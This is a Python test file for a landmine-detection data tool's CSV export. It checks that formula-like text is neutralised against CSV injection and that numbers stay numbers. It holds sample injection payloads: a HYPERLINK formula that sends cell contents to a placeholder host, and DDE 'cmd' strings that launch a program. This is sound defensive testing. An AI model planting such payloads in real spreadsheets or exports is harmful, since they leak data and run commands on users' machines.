"""``demine export`` CSV opened in a spreadsheet: text from users or files
(operator, site, lane, labels, stream names) must not be taken for a formula
(CSV injection), while numbers stay numbers."""

from __future__ import annotations

import csv

import numpy as np
import pytest

from demine.cli import main
from demine.export import export_alarms
from demine.positions import LocalFrame
from demine.recording import RecordingWriter

#: What a spreadsheet takes for the start of a formula (OWASP, CSV injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

PAYLOADS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


KYIV = LocalFrame(30.5, 50.4, 0.0, 35.0)


def _recording(path, *, frame=KYIV, **meta):
    """A recording with a few positions (and the frame, unless None)."""
    t0 = 1_772_352_000_000_000_000
    x = np.linspace(-1.0, 1.0, 50)
    with RecordingWriter(path, attrs=None if frame is None else frame.attrs(), **meta) as w:
        w.add_stream("emi", "emi", n_channels=2).append(
            np.zeros((x.size, 2)), time=t0 + np.arange(x.size) * 10_000_000, x=x,
            y=np.zeros(x.size), z=np.full(x.size, 0.05))
    return path


def _rows(path):
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def _number(cell):
    try:
        return np.isfinite(float(cell))
    except ValueError:
        return False


def _alarms(labels, streams):
    n = len(labels)
    return {"time": np.full(n, 1_772_352_000_000_000_000 + 10**9),
            "x": np.linspace(-0.5, 0.5, n), "y": np.full(n, -0.25),
            "depth": np.full(n, -0.12), "score": np.linspace(-1.5, 1.5, n),
            "label": np.array(labels, dtype=object), "stream": np.array(streams, dtype=object)}


@pytest.mark.parametrize("local", [False, True])
def test_text_cells_that_look_like_formulas_are_quoted(tmp_path, local):
    rec = _recording(tmp_path / "r.h5", frame=None if local else KYIV,
                     operator=PAYLOADS[0], site=PAYLOADS[1], lane_id=PAYLOADS[2])
    labels = PAYLOADS[3:] + ["mine", "'already quoted"]
    alarms = _alarms(labels, PAYLOADS[:len(labels)])
    out = tmp_path / "a.csv"
    assert export_alarms(rec, out, alarms=alarms, local=local) == len(labels)
    header, *rows = _rows(out)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or _number(cell), (header, row)
    col = {k: i for i, k in enumerate(header)}
    # the text is kept, behind a single quote (a spreadsheet shows it as text)
    assert [r[col["class"]] for r in rows] == ["'" + s for s in PAYLOADS[3:]] + [
        "mine", "'already quoted"]
    assert [r[col["sensor"]] for r in rows] == ["'" + s for s in PAYLOADS[:len(labels)]]
    assert {r[col["operator"]] for r in rows} == {"'" + PAYLOADS[0]}
    assert {r[col["site"]] for r in rows} == {"'" + PAYLOADS[1]}
    assert {r[col["lane"]] for r in rows} == {"'" + PAYLOADS[2]}
    assert rows[0][col["id"]] == "'" + PAYLOADS[2] + "-A0001"


def test_numbers_stay_numbers(tmp_path):
    rec = _recording(tmp_path / "r.h5")
    alarms = _alarms(["-0.12", "+3", "-1e-3", "=1"], ["emi"] * 4)
    out = tmp_path / "a.csv"
    export_alarms(rec, out, alarms=alarms)
    header, *rows = _rows(out)
    col = {k: i for i, k in enumerate(header)}
    assert [r[col["x_m"]] for r in rows] == ["-0.5", "-0.1667", "0.1667", "0.5"]
    assert {r[col["y_m"]] for r in rows} == {"-0.25"}
    assert {r[col["depth_m"]] for r in rows} == {"-0.12"}
    assert [r[col["score"]] for r in rows] == ["-1.5", "-0.5", "0.5", "1.5"]
    assert all(float(r[col["lon"]]) > 0 and float(r[col["lat"]]) > 0 for r in rows)
    assert {r[col["fix_quality"]] for r in rows} == {""}  # (no GPS: unknown)
    # a label that is a plain number is a number to a spreadsheet, not a formula
    assert [r[col["class"]] for r in rows] == ["-0.12", "+3", "-1e-3", "'=1"]
    # no byte-order mark: the header starts with the first column's name
    assert out.read_bytes().startswith(b"id,class,")


def test_cli_export_of_an_alarms_csv_from_a_file(tmp_path):
    rec = _recording(tmp_path / "r.h5")
    table = tmp_path / "alarms.csv"
    table.write_text('x,y,score,label,stream\n0.1,0.2,3,"=HYPERLINK(""http://x"")",@emi\n'
                     "-0.3,-0.2,-2,clutter,-gpr\n", encoding="utf-8")
    out = tmp_path / "a.csv"
    assert main(["export", str(rec), "--alarms", str(table), "--out", str(out)]) == 0
    header, *rows = _rows(out)
    col = {k: i for i, k in enumerate(header)}
    assert [r[col["class"]] for r in rows] == ["'=HYPERLINK(\"http://x\")", "clutter"]
    assert [r[col["sensor"]] for r in rows] == ["'@emi", "'-gpr"]
    assert [r[col["x_m"]] for r in rows] == ["0.1", "-0.3"]
    assert [r[col["score"]] for r in rows] == ["3.0", "-2.0"]


def test_detect_alarms_csv_is_guarded_and_reads_back_as_written(tmp_path):
    """``demine detect --out`` writes the same guard into its CSV (stream and
    label cells), and ``read_alarms_csv`` (``demine evaluate --alarms``) gives
    the text back as it was; numbers are untouched."""
    from demine.evaluate import read_alarms_csv
    from demine.pipeline import write_alarms_csv

    texts = [p.strip() for p in PAYLOADS[:4]] + ["-0.5", "emi", "'=quoted", "'plain"]
    n = len(texts)
    alarms = {"x": np.linspace(-1.0, 1.0, n), "y": np.full(n, -0.25),
              "score": -np.arange(n, dtype=float), "stream": np.array(texts),
              "label": np.array(texts[::-1])}
    p = write_alarms_csv(alarms, tmp_path / "alarms.csv")
    header, *rows = _rows(p)
    for col in ("stream", "label"):
        cells = [r[header.index(col)] for r in rows]
        for cell in cells:
            assert not cell.startswith(FORMULA_START) or cell == "-0.5", cell
        assert "''=quoted" in cells and "'plain" in cells
    assert [r[header.index("y")] for r in rows] == ["-0.25"] * n
    back = read_alarms_csv(p)
    assert list(back["stream"]) == texts
    assert list(back["label"]) == texts[::-1]
    np.testing.assert_array_equal(back["score"], alarms["score"])
